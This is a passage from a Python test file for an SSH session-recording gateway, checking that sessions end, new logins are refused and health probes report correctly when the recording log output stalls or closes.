                              "while sleep 0.05; do seq 1 2000 || exit; done"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    gw.wait_event(lambda e: e["event"]["action"] == "asciicast.output", what="output")
    gw.pipe.pause()
    _, err = client.communicate(timeout=60)
    assert b"recording is unavailable" in err
    refused = gw.ssh(keys.alice, "echo nope", f"{LOGIN}@db1.int",
                     extra=["-o", "LogLevel=INFO"], timeout=30)
    assert refused.returncode != 0 and b"nope" not in refused.stdout
    assert b"recording is unavailable" in refused.stderr
    assert health(gw) == 503  # the orchestrator sees it too, at once: out of service,
    assert health(gw, "/healthz") == 503
    assert health(gw, "/livez") == 200  # but not restarted (that would cut every live session)
    gw.pipe.resume()
    # Recovered: new sessions work again, and the ended session's record is complete.
    r = wait_until(lambda: (lambda r: r if r.stdout == b"back\n" else None)(
        gw.ssh(keys.alice, "echo back", f"{LOGIN}@db1.int", timeout=30)), 30, "recovery")
    assert r.returncode == 0
    # Ready again once the workers' next status reaches the parent's view (a pass or two).
    wait_until(lambda: health(gw) == 200, 10, "ready again")
    gw.wait_event(lambda e: e["event"]["action"] == "session.end" and
                  e["castgate"]["end_reason"] == "recording_unavailable",
                  what="the first session's end, written once stdout recovered")


def test_probes_answer_while_the_parent_waits_on_a_stalled_stdout(gateway_factory, sshd, keys):
    """The parent writes its own lines (checkpoints, every second here) to the same stdout: when
    the log shipper stalls, the parent waits on it. The probes still answer, at once: not ready,
    but alive (a restart would cut every session and cure nothing)."""
    gw = pipe_gateway(gateway_factory, sshd, ["--recording-stall-limit", "30s",
                                              "--checkpoint-interval", "1s",
                                              "--health-listen", "127.0.0.1:0"])
    client = subprocess.Popen(gw.ssh_args(keys.alice) + [f"{LOGIN}@db1.int@127.0.0.1",
                              "while sleep 0.05; do seq 1 2000 || exit; done"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        gw.wait_event(lambda e: e["event"]["action"] == "asciicast.output", what="output")
        gw.pipe.pause()
        time.sleep(4)  # the pipe is full; the parent's checkpoints wait on it
        for _ in range(3):
            start = time.monotonic()
            assert health(gw, "/livez") == 200
            assert health(gw, "/readyz") == 503
            assert time.monotonic() - start < 2
            time.sleep(0.5)
    finally:
        gw.pipe.resume()
        client.terminate()
        client.communicate(timeout=30)
    wait_until(lambda: health(gw, "/readyz") == 200, 30, "ready again")


def test_a_closed_stdout_ends_sessions_with_a_message_and_refuses_new_ones(gateway_factory, sshd, keys):
    gw = pipe_gateway(gateway_factory, sshd)
    gw.expect_complete_record = False  # what could not be written is reported on stderr
    client = subprocess.Popen(gw.ssh_args(keys.alice) + [f"{LOGIN}@db1.int@127.0.0.1",
                              "while sleep 0.05; do echo tick; done"],
                              stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    gw.wait_event(lambda e: e["event"]["action"] == "asciicast.output", what="output")
    gw.pipe.close_reader()
    _, err = client.communicate(timeout=60)
    assert b"recording is unavailable" in err
    refused = gw.ssh(keys.alice, "echo nope", f"{LOGIN}@db1.int", extra=["-o", "LogLevel=INFO"],
                     timeout=30)
    assert b"nope" not in refused.stdout
    assert b"recording is unavailable" in refused.stderr
    assert "recording output failed" in gw.stderr()
